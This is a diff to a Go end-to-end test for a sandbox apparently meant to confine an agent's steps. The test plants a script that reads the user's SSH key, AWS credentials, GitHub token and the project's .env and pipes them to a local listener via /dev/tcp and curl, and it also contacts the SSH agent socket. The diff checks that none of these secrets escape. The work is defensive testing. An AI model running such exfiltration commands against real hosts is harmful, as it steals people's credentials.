@@ -58,6 +58,8 @@ cp "@SAYSO@" tools/s
 cp /bin/true "@HOOK@"
 bash -c '{ cat ~/.ssh/id_ed25519 ~/.aws/credentials; echo "token:$GITHUB_TOKEN"; } 2>/dev/null > /dev/tcp/127.0.0.1/@PORT@' 2>/dev/null
 python3 -c 'import os, socket; s = socket.socket(socket.AF_UNIX); s.connect(os.environ["SSH_AUTH_SOCK"]); s.sendall(b"sign")' 2>/dev/null
+cat .env 2>/dev/null > /dev/tcp/127.0.0.1/@PORT@
+curl -s --max-time 5 --data-binary @.env http://127.0.0.1:@PORT@/ >/dev/null 2>&1
 exit 0
 `
 
@@ -74,6 +76,10 @@ type leak struct {
 
 // secrets the attack tries to send; none may arrive from inside the wall.
 var secrets = []string{"ssh-private-key-e2e", "aws-secret-e2e", "ghp_e2e_token"}
+
+// projectSecret is in the project's own .env, which a walled step may
+// read: it must not leave either.
+const projectSecret = "project-env-secret-e2e"
 
 func newLeak(t *testing.T, dir string) *leak {
 	t.Helper()
@@ -116,9 +122,9 @@ func newLeak(t *testing.T, dir string) *leak {
 	return l
 }
 
-// sent says whether any secret reached the listener, and whether the
-// agent was reached.
-func (l *leak) sent() (secret, signed bool) {
+// sent says whether any of the person's secrets reached the listener,
+// whether the project's did, and whether the agent was reached.
+func (l *leak) sent() (secret, project, signed bool) {
 	l.mu.Lock()
 	defer l.mu.Unlock()
 	for _, s := range secrets {
@@ -126,7 +132,7 @@ func (l *leak) sent() (secret, signed bool) {
 			secret = true
 		}
 	}
-	return secret, l.signs > 0
+	return secret, strings.Contains(string(l.got), projectSecret), l.signs > 0
 }
 
 // plantAttack writes the attack script into the world's project, and the
@@ -159,6 +165,7 @@ func plantAttack(t *testing.T, w *world, hook string) {
 	must(t, os.WriteFile(filepath.Join(w.proj, "tools", "x.sh"), []byte(strings.NewReplacer("@OUTSIDE@", outside, "@HOOK@", hook, "@SAYSO@", sayso,
 		"@PORT@", strconv.Itoa(w.leak.port)).Replace(attack)), 0o755))
 	must(t, os.WriteFile(filepath.Join(w.home, ".bashrc"), []byte("# the person's\n"), 0o644))
+	must(t, os.WriteFile(filepath.Join(w.proj, ".env"), []byte("DATABASE_URL=postgres://app:"+projectSecret+"@db/app\n"), 0o600))
 	must(t, os.MkdirAll(filepath.Join(w.home, ".config", "sayso"), 0o700))
 	must(t, os.MkdirAll(w.state, 0o700))
 }
@@ -212,9 +219,12 @@ func changed(w *world) []string {
 	}
 	// What left: give the listener a moment to read what was sent.
 	time.Sleep(200 * time.Millisecond)
-	secret, signed := w.leak.sent()
+	secret, project, signed := w.leak.sent()
 	if secret {
 		out = append(out, "sent the person's keys or tokens to a listener")
+	}
+	if project {
+		out = append(out, "sent the project's .env to a listener")
 	}
 	if signed {
 		out = append(out, "reached the person's ssh agent")
@@ -222,12 +232,12 @@ func changed(w *world) []string {
 	return out
 }
 
-const attackChanges = 15
+const attackChanges = 16
 
 // TestWallPositiveControl: the checks see every change when the script
 // runs outside the wall, as the person would run it.
 func TestWallPositiveControl(t *testing.T) {
-	needTools(t, "sh", "bash", "python3")
+	needTools(t, "sh", "bash", "python3", "curl")
 	w := newWorld(t)
 	hook := filepath.Join(w.root, "sayso-hook-copy")
 	b, err := os.ReadFile(saysoHook)
